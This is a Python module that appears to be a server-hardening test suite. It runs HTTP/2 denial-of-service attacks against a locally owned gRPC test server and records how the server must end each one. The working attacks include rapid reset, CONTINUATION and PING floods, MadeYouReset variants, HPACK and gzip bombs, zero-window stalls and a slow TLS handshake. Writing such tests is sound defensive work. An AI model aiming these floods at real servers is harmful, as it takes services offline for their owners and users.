"""What hostile clients of HTTP/2 do, each attack a function that says how it ended.

They are for a server of grpc.testing.TestService on 127.0.0.1 that the caller owns, and for nothing else.
"""

import gzip
import socket
import time
from typing import Callable, NamedTuple

from support.frames import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HAS_PRIORITY, HEADERS, INITIAL_WINDOW_SIZE, LARGEST_WINDOW, PING,
    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, End, field, frame, number, request)

TEST_SERVICE = "/grpc.testing.TestService/"
# Its handler waits for messages that never come.
HANG = request(TEST_SERVICE + "FullDuplexCall")
CANCEL = number(8)


def varint(value):
    result = b""
    while value >= 128:
        result += bytes([value % 128 + 128])
        value //= 128
    return result + bytes([value])


def message(body):
    return b"\x00" + number(len(body)) + body


def response_of(size):
    """A SimpleRequest that asks for so many bytes."""
    return message(b"\x10" + varint(size))


def responses_of(size, count, microseconds=0):
    """A StreamingOutputCallRequest that asks for `count` responses of `size` bytes."""
    one = b"\x08" + varint(size) + b"\x10" + varint(microseconds)
    return message((b"\x12" + varint(len(one)) + one) * count)


def call(stream, headers, body=None, more=0):
    """A request; without a body it stays open."""
    opening = frame(HEADERS, END_HEADERS | more, stream, headers)
    return opening if body is None else opening + frame(DATA, END_STREAM, stream, body)


def flood(connection, make, frames, batch, pause):
    """Sends make(0), make(1) and so on until the connection is over or `frames` of them have left.

    With a pause after each batch little more is counted than what the server let happen.
    """
    for begin in range(0, frames, batch):
        indexes = range(begin, min(begin + batch, frames))
        if not connection.send(b"".join(map(make, indexes)), count=len(indexes)) or not connection.poll(pause):
            break
        if connection.goaway:
            break


class Pace(NamedTuple):
    frames: int
    batch: int = 10
    # Seconds to wait after a batch for what the server says to it. Without them a hundred calls are
    # open before their resets are, and the peer is in the wrong by another rule.
    pause: float = 0.003
    # Seconds to wait for the end when everything was sent.
    patience: float = 10


def flooding(make, before=b"", deaf=False, acknowledges=True):
    """An attack that sends one kind of frame, after `before`."""

    def attack(port, pace):
        with Connection(port, deaf=deaf, acknowledges=acknowledges) as connection:
            connection.send(before)
            flood(connection, make, pace.frames, pace.batch, pace.pause)
            return connection.end(pace.patience)

    return attack


def odd(index):
    return index * 2 + 1


# Calls that end before they began.


def reset(stream):
    return frame(RST_STREAM, stream=stream, payload=CANCEL)


def reset_at_once(index):
    return call(odd(index), HANG) + reset(odd(index))


def reset_running(port, pace):
    """Rapid reset that lets each handler start: as many calls as may be open, then they are reset."""
    with Connection(port) as connection:
        while connection.sent < pace.frames:
            streams = [odd(connection.sent + index) for index in range(min(100, pace.frames - connection.sent))]
            connection.send(b"".join(call(stream, HANG) for stream in streams))
            connection.poll(0.1)
            first = (streams[0] - 1) // 2
            flood(connection, lambda index: reset(odd(first + index)), len(streams), pace.batch, pace.pause)
            if connection.closed or connection.goaway:
                break
        return connection.end(pace.patience)


def overflow(index):
    """CVE-2025-8671: the window would pass 2^31-1, so the server itself resets the stream."""
    return call(odd(index), HANG) + frame(WINDOW_UPDATE, stream=odd(index), payload=number(LARGEST_WINDOW))


def shorter_than_said(index):
    headers = request(TEST_SERVICE + "StreamingInputCall", ("content-length", "5"))
    return call(odd(index), headers, b"\x00")


# One frame that is no good.


def zero_update(index):
    return call(odd(index), HANG) + frame(WINDOW_UPDATE, stream=odd(index), payload=number(0))


def own_dependency(index):
    stream = odd(index)
    return frame(HEADERS, END_HEADERS | HAS_PRIORITY, stream, number(stream) + b"\x0f" + HANG)


def data_after_end(index):
    body = responses_of(1, 1, microseconds=60_000_000)
    return call(odd(index), request(TEST_SERVICE + "StreamingOutputCall"), body) + frame(DATA, 0, odd(index), b"late")


# Frames that cost the server more than us.


def header_bomb(first_stream=1, before=b"", text="x"):
    """12,000 references of a byte each to an entry of 4 KB."""
    def make(index):
        start = before + request(TEST_SERVICE + "EmptyCall")
        # The dynamic table begins at 62; it lives as long as the connection, so one request fills it.
        start += field("x", text * 4000, indexed=True) if index == 0 else b""
        return frame(HEADERS, END_HEADERS | END_STREAM, first_stream + 2 * index, start + b"\xbe" * 12_000)

    return make


def expanding(port, pace):
    """Messages of 64 MB that are 64 KB on the wire."""
    packed = gzip.compress(response_of(1)[5:] + bytes(64 << 20), mtime=0)
    body = b"\x01" + number(len(packed)) + packed
    headers = request(TEST_SERVICE + "UnaryCall", ("grpc-encoding", "gzip"))
    pieces = [body[start:start + 16384] for start in range(0, len(body), 16384)]
    with Connection(port) as connection:
        # Before the server's SETTINGS are acknowledged, its window is as small as one body.
        connection.ping()
        for index in range(pace.frames):
            stream = odd(index)
            data = [frame(DATA, 0, stream, piece) for piece in pieces]
            connection.send(call(stream, headers) + b"".join(data) + frame(DATA, END_STREAM, stream), count=1)
            # One after the other: together they would not fit into the connection's window.
            if not connection.wait(lambda: connection.is_over(stream), 10):
                break
        return connection.end(0)


def churn(index):
    """CVE-2019-9513: the tree of priorities is built anew with each frame."""
    stream = odd(index % 1000)
    return frame(PRIORITY, stream=stream, payload=number(odd((index * 7 + 1) % 1000 + 1000)) + bytes([index % 256]))


def churning(port, pace):
    with Connection(port) as connection:
        flood(connection, churn, pace.frames, pace.batch, pace.pause)
        connection.ping()
        return connection.end(0)


# Clients that do nothing.


def ask_with_no_window(connection, streams, pace):
    """Asks for 64 KB each and gives no window for them."""
    asks = request(TEST_SERVICE + "UnaryCall")
    flood(connection, lambda index: call(odd(index), asks, response_of(1 << 16)), streams, pace.batch, pace.pause)


def window_shut(port, pace):
    with Connection(port, first=[(INITIAL_WINDOW_SIZE, 0)], acknowledges=False) as connection:
        ask_with_no_window(connection, 400, pace)
        return connection.end(pace.patience)


def window_shut_politely(port, pace):
    """All else is answered: a reader that takes its time looks the same, so this may last; its cost must not grow."""
    with Connection(port, first=[(INITIAL_WINDOW_SIZE, 0)]) as connection:
        ask_with_no_window(connection, 100, pace)
        connection.ping()
        return connection.end(0)


def settings_not_acknowledged(port, pace):
    with Connection(port, acknowledges=False) as connection:
        connection.send(call(1, HANG))
        return connection.end(pace.patience)


def socket_not_read(port, pace):
    """Lets the server send what it likes, and takes nothing off the wire."""
    windows = [(INITIAL_WINDOW_SIZE, LARGEST_WINDOW)]
    with Connection(port, first=windows, acknowledges=False, deaf=True) as connection:
        connection.send(frame(SETTINGS, ACK))
        connection.send(frame(WINDOW_UPDATE, payload=number(LARGEST_WINDOW - 65535)))
        asks = request(TEST_SERVICE + "StreamingOutputCall")
        for index in range(100):
            connection.send(call(odd(index), asks, responses_of(1 << 16, 1000)))
        # Whether the server hung up shows only to somebody who reads: what it had sent comes first.
        time.sleep(pace.patience)
        return connection.end(5)


def no_preface(port, pace):
    with Connection(port, speaks=False) as connection:
        return connection.end(pace.patience)


def endless_handshake(port, pace):
    """The beginning of a TLS record, a byte at a time, as slowly as to look alive."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(501)
    with socket.create_connection(("127.0.0.1", port)) as plain:
        plain.settimeout(0.5)
        deadline, sent = time.monotonic() + pace.patience, 0
        while time.monotonic() < deadline:
            try:
                plain.sendall(hello[sent:sent + 1])
                sent += 1
                # An alert may come before the end.
                while plain.recv(1000):
                    pass
                return End(True, None, "", sent)
            except TimeoutError:
                continue
            except OSError:
                return End(True, None, "", sent)
        return End(False, None, "", sent)


class Attack(NamedTuple):
    title: str
    run: Callable
    # By then the attack must have ended: so many frames, calls or entries were sent.
    limit: int
    # What has to have ended it: a code of HTTP/2, or any hanging up, or nothing at all.
    end: str = "ENHANCE_YOUR_CALM"
    text: str = ""
    needs_tls: bool = False
    # Seconds that the server is allowed; 0 for what ends at once.
    lasts: int = 0
    # How many handlers may be started until the end.
    handlers: int = 200
    batch: int = 10
    # How much the server's memory may grow, in bytes.
    memory: int = 20_000_000
    # How many are sent to a server that does not mind, as many as to the reference servers of the table.
    most: int = 20_000


CLOSED, ANY = "closed", "any"

ATTACKS = {
    "rapid-reset": Attack("rapid reset (CVE-2023-44487)", flooding(reset_at_once), 200, handlers=100),
    "rapid-reset-running": Attack("rapid reset of handlers that run", reset_running, 200),
    "continuation": Attack(
        "CONTINUATION flood (CVE-2024-27316)",
        flooding(lambda index: frame(CONTINUATION, 0, 1, field("a", "b")), before=frame(HEADERS, 0, 1, HANG)),
        10, CLOSED),
    "window-update-0": Attack("MadeYouReset, WINDOW_UPDATE 0", flooding(zero_update), 1, "PROTOCOL_ERROR"),
    "self-dependency": Attack("MadeYouReset, self-dependency", flooding(own_dependency), 1, "PROTOCOL_ERROR"),
    "window-overflow": Attack("MadeYouReset, window overflow (CVE-2025-8671)", flooding(overflow), 200),
    "content-length": Attack("MadeYouReset, content-length mismatch", flooding(shorter_than_said), 200),
    "data-after-end": Attack("DATA after END_STREAM", flooding(data_after_end), 1, "STREAM_CLOSED"),
    "settings": Attack("SETTINGS flood, reading", flooding(lambda _: frame(SETTINGS)), 1000, batch=100),
    "settings-deaf": Attack(
        "SETTINGS flood, not reading", flooding(lambda _: frame(SETTINGS), deaf=True), 1000, CLOSED, batch=100),
    "settings-entries": Attack(
        "SETTINGS with 2,700 entries",
        flooding(lambda _: frame(SETTINGS, payload=b"\x00\x06\x00\x00\x40\x00" * 2700)), 1),
    "ping": Attack("PING flood", flooding(lambda index: frame(PING, payload=bytes(8))), 200, text="too_many_pings"),
    "empty-data": Attack(
        "empty DATA frames (CVE-2019-9518)",
        flooding(lambda _: frame(DATA, 0, 1), before=call(1, HANG)), 10_000, batch=100),
    "priority": Attack("PRIORITY churn (CVE-2019-9513)", churning, 20_000, ANY, batch=100),
    "header-bomb": Attack("HPACK bomb, 12,000 references to 4 KB", flooding(header_bomb()), 1, handlers=0, most=50),
    # Not of the table: what is refused or left out is unpacked too.
    "header-bomb-invalid": Attack(
        "HPACK bomb of an invalid value", flooding(header_bomb(text="\x01")), 1, handlers=0, most=50),
    "header-bomb-broken": Attack(
        "HPACK bomb in a list that breaks a rule", flooding(header_bomb(before=field("A", "b"))), 4, handlers=0,
        most=50),
    "header-bomb-refused": Attack(
        "HPACK bomb on refused streams",
        # Who has acknowledged SETTINGS is told PROTOCOL_ERROR at the first.
        flooding(header_bomb(201), b"".join(call(odd(index), HANG) for index in range(100)), acknowledges=False), 4,
        handlers=100, most=50),
    "gzip-bomb": Attack("messages of 64 MB in 64 KB of gzip", expanding, 20, ANY, handlers=20, most=20),
    "unknown-frames": Attack(
        "frames of an unknown type", flooding(lambda _: frame(0xEE, payload=bytes(8))), 10_000, batch=100),
    "window-shut": Attack("zero window, 400 streams, SETTINGS not acknowledged", window_shut, 400, CLOSED, lasts=10),
    "settings-unacknowledged": Attack(
        "one call, SETTINGS not acknowledged", settings_not_acknowledged, 1, "SETTINGS_TIMEOUT", lasts=10),
    "window-shut-politely": Attack("zero window, 100 streams", window_shut_politely, 100, ANY),
    # Not of the table. Each of 100 handlers holds the message that it made and its encoded form, 64 KiB each:
    # 13 MB by themselves, whatever the engine does.
    "socket-not-read": Attack(
        "100 streams of 64 MB, nothing read", socket_not_read, 100, CLOSED, lasts=30, memory=33_000_000),
    "no-preface": Attack("TCP open, no preface", no_preface, 1, CLOSED, lasts=10),
    "endless-handshake": Attack(
        "TLS handshake that never ends", endless_handshake, 1, CLOSED, needs_tls=True, lasts=10),
}
